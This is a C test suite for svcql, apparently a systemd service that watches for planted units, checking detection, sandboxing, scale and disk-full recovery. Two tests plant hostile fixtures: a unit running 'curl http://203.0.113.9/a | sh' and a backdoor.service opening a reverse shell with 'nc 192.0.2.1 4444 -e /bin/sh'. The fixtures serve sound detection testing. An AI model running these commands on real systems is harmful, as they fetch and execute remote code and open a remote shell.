/* check_service.c -- svcql.service under a real systemd: it starts, finds what is planted, reports
 * it once, keeps its sandbox and its old configuration. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "harness.h"
#include "make_schedule.h"
#include "make_systemd.h"

static const char *dir;
static pid_t       booted;
static char        bindir[4096];

static void setup(void)
{
    snprintf(bindir, sizeof bindir, "%s", harness_program());
    *strrchr(bindir, '/') = '\0';
    dir = harness_scratch();
    booted = systemd_start(dir);
}

static void teardown(void)
{
    if (booted > 0)
        systemd_stop(dir);
}

/* What a line of shell prints. */
static char *output_of(const char *line)
{
    static char text[262144];
    FILE       *out = popen(line, "r");
    size_t      n = fread(text, 1, sizeof text - 1, out);

    pclose(out);
    text[n] = '\0';
    return text;
}

static void install(const char *options)
{
    systemd_shell(
        "sed 's|@bindir@|%s|' ext/program/svcql.service > /etc/systemd/system/svcql.service",
        bindir);
    systemd_shell("mkdir -p /etc/default; echo 'SVCQL_OPTIONS=%s' > /etc/default/svcql", options);
    systemd_shell("systemctl daemon-reload && systemctl reset-failed && systemctl restart svcql");
}

static void configure(const char *name)
{
    char text[1024];

    snprintf(text, sizeof text,
             "{\"options\":{\"schedule_splay_percent\":0},\"schedule\":{\"%s\":{\"interval\":1,"
             "\"query\":\"SELECT name FROM unit_files WHERE kind = 'unit' AND path GLOB "
             "'/etc/systemd/system/*'\"}}}",
             name);
    harness_write_text("/etc", "svcql.json", text);
}

/* Lines of the journal about a unit, each checked. */
static int times_reported(const char *name, const char *unit)
{
    char line[512], column[256];
    int  n = 0;

    snprintf(line, sizeof line,
             "journalctl --sync; journalctl -o cat SYSLOG_IDENTIFIER=svcql SVCQL_NAME=%s "
             "SVCQL_ACTION=added 2>&1",
             name);
    snprintf(column, sizeof column, "\"columns\":{\"name\":\"%s\"}", unit);
    for (char *at = output_of(line), *end; (end = strchr(at, '\n')); at = end + 1) {
        if (*at != '{')
            continue;
        const char *error = log_line_error(at, (size_t)(end - at));
        ck_assert_msg(!error, "%s: %.*s", error, (int)(end - at), at);
        n += memmem(at, (size_t)(end - at), column, strlen(column)) != NULL;
    }
    return n;
}

/* Until a line of shell succeeds; the test fails where it does not in two minutes. */
static void wait_until(const char *condition)
{
    systemd_shell("n=0; until %s; do n=$((n + 1)); [ $n -lt 1200 ] || exit 1; sleep 0.1; done",
                  condition);
}

static void wait_for(const char *name, const char *unit)
{
    int reported = 0;

    for (int i = 0; i < 1200 && !reported; i++, usleep(100000))
        reported = times_reported(name, unit);
    ck_assert_msg(reported == 1, "%s was reported %d times: %s", unit, reported,
                  output_of("systemctl status svcql; journalctl -u svcql -n 20 2>&1"));
}

START_TEST(planted_units_are_reported_once)
{
    NEED_SYSTEMD(booted);
    systemd_enter(dir);
    configure("units");
    install("--config /etc/svcql.json");
    systemd_shell(
        "printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/planted.service");
    wait_for("units", "planted.service");
    systemd_shell("systemctl restart svcql");
    systemd_shell(
        "printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/second.service");
    wait_for("units", "second.service");
    ck_assert_int_eq(times_reported("units", "planted.service"), 1);
    harness_write_text("/etc", "svcql.json", "{\"schedule\":{\"units\":{}}}");
    systemd_shell("systemctl reload svcql");
    wait_until("systemctl show -p StatusText svcql | grep -q 'old one stays'");
    systemd_shell("systemctl is-active --quiet svcql");
    wait_until("{ journalctl --sync; journalctl -u svcql -o cat | "
               "grep -q 'schedule.units.query: must be SQL'; }");
    systemd_shell(
        "printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/third.service");
    wait_for("units", "third.service");
    configure("again");
    systemd_shell("systemctl reload svcql");
    wait_for("again", "third.service");
}
END_TEST

/* Each once, within the watchdog's time and 64 MiB: a unit of a file, and one that no file of etc tells of. */
START_TEST(a_hunt_that_follows_shows_what_comes)
{
    NEED_SYSTEMD(booted);
    systemd_enter(dir);
    systemd_shell("systemd-run --quiet --unit=follower -p StandardOutput=file:/root/followed "
                  "%s/svcql hunt --follow -f ndjson",
                  bindir);
    wait_until("grep -q '\"section\":\"coverage\"' /root/followed");
    systemd_shell(
        "mkdir -p /etc/systemd/system && printf '[Service]\\nExecStart=/dev/shm/.x/one\\n' "
        "> /etc/systemd/system/came-one.service");
    wait_until("grep -q came-one.service /root/followed");
    systemd_shell("systemd-run --quiet --unit=came-two /bin/sh -c 'curl http://203.0.113.9/a | sh; "
                  "sleep 300'");
    wait_until("grep -q came-two.service /root/followed");
    systemd_shell("cp /etc/systemd/system/came-one.service /etc/systemd/system/came-three.service");
    wait_until("grep -q came-three.service /root/followed");
    systemd_shell(
        "[ $(grep -c 'subject\":\"/etc/systemd/system/came-one.service' /root/followed) = 1 ]");
    if (!SANITIZED)
        systemd_shell("[ $(sed -n 's/VmHWM:[^0-9]*\\([0-9]*\\).*/\\1/p' "
                      "/proc/$(systemctl show -P MainPID follower)/status) -lt 65536 ]");
    systemd_shell("systemctl stop follower came-two");
}
END_TEST

START_TEST(the_shipped_pack_finds_a_planted_backdoor_from_its_sandbox)
{
    NEED_SYSTEMD(booted);
    systemd_enter(dir);
    systemd_shell("printf '[Service]\\nExecStart=/bin/sh -c \"/dev/shm/.x | nc 192.0.2.1 4444 -e "
                  "/bin/sh\"\\n' > /etc/systemd/system/backdoor.service");
    install("");
    char *text = NULL;
    for (int i = 0; i < 1200; i++, usleep(100000)) {
        text = output_of(
            "journalctl --sync; journalctl -o cat SVCQL_NAME=pack_t1569_services_changed");
        if (strstr(text, "backdoor.service"))
            break;
    }
    ck_assert_ptr_nonnull(strstr(text, "backdoor.service"));
    wait_until("sqlite3 /var/lib/svcql/state.db 'SELECT sum(runs = 0) FROM svcql_schedule' | "
               "grep -qx 0");
    systemd_shell("systemctl stop svcql");
    text = output_of("sqlite3 /var/lib/svcql/state.db 'SELECT name, error FROM svcql_schedule "
                     "WHERE error IS NOT NULL'");
    ck_assert_str_eq(text, "");
    /* What the sandbox keeps from the tables would be reported here. */
    text = output_of("journalctl -o cat SVCQL_NAME=pack_t1569_coverage");
    ck_assert_str_eq(text, "");
}
END_TEST

START_TEST(the_sandbox_is_tight)
{
    NEED_SYSTEMD(booted);
    systemd_enter(dir);
    install("");
    systemd_shell("systemd-analyze security --no-pager --threshold=25 svcql.service > /dev/null");
    systemd_shell("systemd-analyze verify --man=no /etc/systemd/system/svcql.service");
    systemd_shell("test \"$(systemctl show -p NoNewPrivileges --value svcql)\" = yes");
    systemd_shell("systemctl is-active --quiet svcql");
}
END_TEST

/* How many lines of one kind the journal has, or with uniq -d those that came more than once. */
static int lines_of(const char *name, const char *filter)
{
    char line[512];

    snprintf(line, sizeof line,
             "journalctl --sync; journalctl -o cat SYSLOG_IDENTIFIER=svcql SVCQL_NAME=%s "
             "SVCQL_ACTION=added | grep -o '\"columns\":.*' | %s | wc -l",
             name, filter);
    return atoi(output_of(line));
}

/* More rows than SQLite keeps in memory, in a sandbox that has one folder to write to. */
START_TEST(a_large_host_is_reported_once)
{
    NEED_SYSTEMD(booted);
    systemd_enter(dir);
    systemd_shell("cd /etc/systemd/system; for i in $(seq 500); do printf '[Service]\\nExecStart="
                  "/bin/sleep infinity\\n' > large-$i.service; done; for i in $(seq 1500); do "
                  "printf '[Service]\\nExecStart=/bin/true %%d\\n' $i > other-$i.service; done");
    systemd_shell("systemctl daemon-reload; systemctl start 'large-1.service' $(seq -f "
                  "large-%%g.service 2 500)");
    harness_write_text(
        "/etc", "svcql.json",
        "{\"options\":{\"schedule_splay_percent\":0},\"schedule\":{"
        "\"large\":{\"interval\":2,\"query\":\"SELECT host, name, path, user_account, start_type, "
        "source FROM services\"},"
        "\"units\":{\"interval\":2,\"query\":\"SELECT path, exec_start, sha256 FROM unit_files "
        "ORDER BY sha256\"},"
        "\"zlast\":{\"interval\":2,\"query\":\"SELECT min(runs) >= 3 AS enough FROM "
        "svcql_schedule WHERE name <> 'zlast'\"}}}");
    install("--config /etc/svcql.json");
    char *text = NULL;
    for (int i = 0; i < 600; i++, usleep(100000)) {
        text = output_of("journalctl -o cat SVCQL_NAME=zlast");
        if (strstr(text, "\"enough\":\"1\""))
            break;
    }
    ck_assert_msg(strstr(text, "\"enough\":\"1\""), "%.3000s",
                  output_of("systemctl status svcql; journalctl -u svcql -p 5 -n 20"));
    systemd_shell("systemctl stop svcql 'large-*'");
    ck_assert_int_eq(lines_of("large", "grep -E '\"(large|other)-[0-9]+[.]service\"'"), 2000);
    ck_assert_int_eq(lines_of("large", "sort | uniq -d"), 0);
    ck_assert_int_eq(lines_of("units", "grep -E '/(large|other)-[0-9]+[.]service\"'"), 2000);
    ck_assert_int_eq(lines_of("units", "sort | uniq -d"), 0);
    ck_assert_str_eq(output_of("sqlite3 /var/lib/svcql/state.db 'SELECT name, error, last_error "
                               "FROM svcql_schedule WHERE last_error IS NOT NULL'"),
                     "");
}
END_TEST

/* A full disk below the state: reported once, counted, and over when there is room again. */
START_TEST(a_state_that_is_full_is_reported_and_recovers)
{
    NEED_SYSTEMD(booted);
    systemd_enter(dir);
    configure("room");
    install("--config /etc/svcql.json");
    wait_for("room", "svcql.service");
    systemd_shell("systemctl stop svcql; mount -t tmpfs -o size=300k tmpfs /var/lib/svcql; "
                  "systemctl start svcql");
    wait_until("sqlite3 /var/lib/svcql/state.db 'SELECT sum(runs) FROM svcql_schedule' | "
               "grep -qx '[1-9][0-9]*'");
    systemd_shell("cat /dev/zero > /var/lib/svcql/fill || true");
    systemd_shell("for i in $(seq 300); do printf '[Service]\\nExecStart=/bin/true\\n' > "
                  "/etc/systemd/system/full-$i.service; done");
    wait_until("{ sqlite3 /var/lib/svcql/state.db "
               "'SELECT name, coalesce(last_error, 0) FROM svcql_schedule'; "
               "systemctl show -p StatusText svcql; } | grep -q -e full -e 'nothing is run'");
    systemd_shell("rm /var/lib/svcql/fill; mount -o remount,size=8m /var/lib/svcql; "
                  "systemctl reload svcql");
    wait_for("room", "full-300.service");
    systemd_shell("systemctl stop svcql; umount /var/lib/svcql");
    ck_assert_int_eq(lines_of("room", "grep full- | sort | uniq -d"), 0);
}
END_TEST

Suite *make_service_suite(void)
{
    const TTest *const tests[] = {
        planted_units_are_reported_once,
        a_hunt_that_follows_shows_what_comes,
        the_shipped_pack_finds_a_planted_backdoor_from_its_sandbox,
        the_sandbox_is_tight,
        a_state_that_is_full_is_reported_and_recovers,
        a_large_host_is_reported_once,
    };
    Suite *suite = suite_create("service");
    TCase *tcase = tcase_create("service");

    tcase_add_unchecked_fixture(tcase, setup, teardown);
    for (size_t i = 0; i < sizeof tests / sizeof tests[0]; i++)
        tcase_add_test(tcase, tests[i]);
    tcase_set_timeout(tcase, 90);
    suite_add_tcase(suite, tcase);
    return suite;
}
